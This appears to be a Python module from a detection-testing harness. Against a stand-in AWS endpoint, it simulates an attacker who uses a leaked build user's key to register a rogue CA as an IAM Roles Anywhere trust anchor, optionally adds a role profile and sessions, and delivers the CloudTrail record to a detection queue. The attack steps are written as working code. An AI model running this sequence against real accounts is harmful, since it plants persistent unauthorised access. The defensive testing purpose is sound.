"""The story's attacker: a leaked key of a build user makes a CA of its own into a trust anchor."""

import json
import uuid
from dataclasses import dataclass, field
from typing import Any

from .clients import REGION, AwsClient, Credentials, connect
from .control_client import AwsControl
from .rogue_ca import KeyType, RogueCa, make_rogue_ca
from .seed import user_with_key

# An address of the documentation range. See: https://www.rfc-editor.org/rfc/rfc5737
SOURCE_IP = "203.0.113.57"
USER_AGENT = "aws-cli/2.31.4 md/awscrt#0.28.1 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.7"
# The longest session that a profile can grant.
# See: https://docs.aws.amazon.com/rolesanywhere/latest/APIReference/API_CreateProfile.html
_TWELVE_HOURS_SECONDS = 43_200


@dataclass(frozen=True)
class Attack:
    """What the attacker did.

    Attributes:
        trust_anchor_arn: The rogue anchor.
        trust_anchor_id: Its UUID.
        account_id: 12 digits.
        region: Where it is.
        actor_arn: The IAM user whose key was used.
        access_key_id: That key.
        ca: The CA with its key, to issue more certificates.
        record: The CloudTrail record of CreateTrustAnchor.
        profile_arn: The attacker's own profile; None when none was made.
        sessions: The synthetic CreateSession answers, each with `record` and `credentials`.
    """

    trust_anchor_arn: str
    trust_anchor_id: str
    account_id: str
    region: str
    actor_arn: str
    access_key_id: str
    ca: RogueCa = field(repr=False)
    record: dict[str, Any] = field(repr=False)
    profile_arn: str | None = None
    sessions: tuple[dict[str, Any], ...] = field(default=(), repr=False)


def attack(
    endpoint_url: str,
    *,
    region: str = REGION,
    anchor_name: str = "ci-runners",
    ca_name: str = "Internal Build CA",
    key_type: KeyType = "ec",
    enabled: bool = True,
    role_arn: str | None = None,
    sessions: int = 0,
    user_name: str = "build-bot",
    source_ip: str = SOURCE_IP,
) -> Attack:
    """Make a CA and a trust anchor with it; with a role also a profile, and sessions through it.

    Args:
        endpoint_url: Where the stand-in runs.
        region: Where the anchor is made.
        anchor_name: The anchor's name, 1 to 255 of letters, digits, space, `-` and `_`.
        ca_name: Common name of the CA.
        key_type: Key of the CA.
        enabled: Whether the anchor is switched on.
        role_arn: The role to enter; None makes neither profile nor sessions.
        sessions: How many CreateSession calls to play, each with a certificate of its own.
        user_name: The IAM user whose key is abused; made when there is none.
        source_ip: Where the calls come from.

    Returns:
        What was done, with the record to deliver.

    Raises:
        botocore.exceptions.ClientError: When AWS refuses, for example a name or a fault that was set.
        ValueError: When sessions are asked for without a role.
    """
    if sessions and role_arn is None:
        raise ValueError("Sessions need a role to enter")
    credentials, actor_arn = user_with_key(connect("iam", endpoint_url, region=region), user_name)
    anywhere = _as_attacker(endpoint_url, credentials, region, source_ip)
    ca = make_rogue_ca(ca_name, key_type)
    anchor = _create_anchor(anywhere, anchor_name, ca, enabled=enabled)
    profile_arn = _create_profile(anywhere, anchor_name, role_arn) if role_arn else None
    control = AwsControl(endpoint_url)
    target = {
        "trust_anchor_arn": anchor["trustAnchorArn"],
        "profile_arn": profile_arn,
        "role_arn": role_arn,
        "source_ip": source_ip,
    }
    entered = tuple(
        control.create_session(certificate=ca.issue(f"runner-{number}"), **target) for number in range(1, sessions + 1)
    )
    record = _record_of(control, anchor["trustAnchorArn"])
    return _done(anchor, actor_arn, ca, record, profile_arn, entered)


def _done(
    anchor: dict[str, Any],
    actor_arn: str,
    ca: RogueCa,
    record: dict[str, Any],
    profile_arn: str | None,
    sessions: tuple[dict[str, Any], ...],
) -> Attack:
    return Attack(
        trust_anchor_arn=anchor["trustAnchorArn"],
        trust_anchor_id=anchor["trustAnchorId"],
        account_id=record["recipientAccountId"],
        region=record["awsRegion"],
        actor_arn=actor_arn,
        access_key_id=record["userIdentity"]["accessKeyId"],
        ca=ca,
        record=record,
        profile_arn=profile_arn,
        sessions=sessions,
    )


def eventbridge_event(record: dict[str, Any]) -> dict[str, Any]:
    """Wrap a CloudTrail record as EventBridge delivers it.

    See: https://docs.aws.amazon.com/eventbridge/latest/userguide/eb-service-event-cloudtrail.html

    Args:
        record: The CloudTrail record.

    Returns:
        The event; its `id` differs each time, as it does per delivery, while `detail.eventID` stays.
    """
    return {
        "version": "0",
        "id": str(uuid.uuid4()),
        "detail-type": "AWS API Call via CloudTrail",
        "source": f"aws.{record['eventSource'].partition('.')[0]}",
        "account": record["recipientAccountId"],
        "time": record["eventTime"],
        "region": record["awsRegion"],
        "resources": [],
        "detail": record,
    }


def deliver(endpoint_url: str, queue_url: str, record: dict[str, Any]) -> str:
    """Send a record to the queue as EventBridge would.

    Args:
        endpoint_url: Where the stand-in runs.
        queue_url: The queue of the detections.
        record: The CloudTrail record.

    Returns:
        The SQS message id.
    """
    return send(endpoint_url, queue_url, json.dumps(eventbridge_event(record)), record["awsRegion"])


def send(endpoint_url: str, queue_url: str, body: str, region: str = REGION) -> str:
    """Send a message to a queue.

    Args:
        endpoint_url: Where the stand-in runs.
        queue_url: The queue.
        body: The message.
        region: The queue's Region.

    Returns:
        The SQS message id.
    """
    sqs = connect("sqs", endpoint_url, region=region)
    return str(sqs.send_message(QueueUrl=queue_url, MessageBody=body)["MessageId"])


def _as_attacker(endpoint_url: str, credentials: Credentials, region: str, source_ip: str) -> AwsClient:
    return connect(
        "rolesanywhere",
        endpoint_url,
        credentials=credentials,
        region=region,
        source_ip=source_ip,
        user_agent=USER_AGENT,
    )


def _create_anchor(anywhere: AwsClient, name: str, ca: RogueCa, *, enabled: bool) -> dict[str, Any]:
    source = {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": ca.pem.strip()}}
    anchor: dict[str, Any] = anywhere.create_trust_anchor(
        name=name, enabled=enabled, source=source, tags=[{"key": "team", "value": "build"}]
    )["trustAnchor"]
    return anchor


def _create_profile(anywhere: AwsClient, name: str, role_arn: str) -> str:
    made = anywhere.create_profile(
        name=f"{name}-profile", roleArns=[role_arn], durationSeconds=_TWELVE_HOURS_SECONDS, enabled=True
    )
    return str(made["profile"]["profileArn"])


def _record_of(control: AwsControl, trust_anchor_arn: str) -> dict[str, Any]:
    made = (record for record in control.records("CreateTrustAnchor") if record["responseElements"])
    return next(
        record for record in made if record["responseElements"]["trustAnchor"]["trustAnchorArn"] == trust_anchor_arn
    )
